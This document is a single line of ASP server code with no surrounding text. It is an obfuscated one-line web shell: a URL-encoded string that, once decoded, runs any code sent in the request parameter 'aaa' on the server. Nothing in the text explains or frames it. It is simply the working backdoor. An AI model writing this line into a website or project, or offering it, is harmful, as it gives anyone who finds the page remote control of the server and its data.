<%execute(unescape("eval%20request%28%22aaa%22%29"))%>
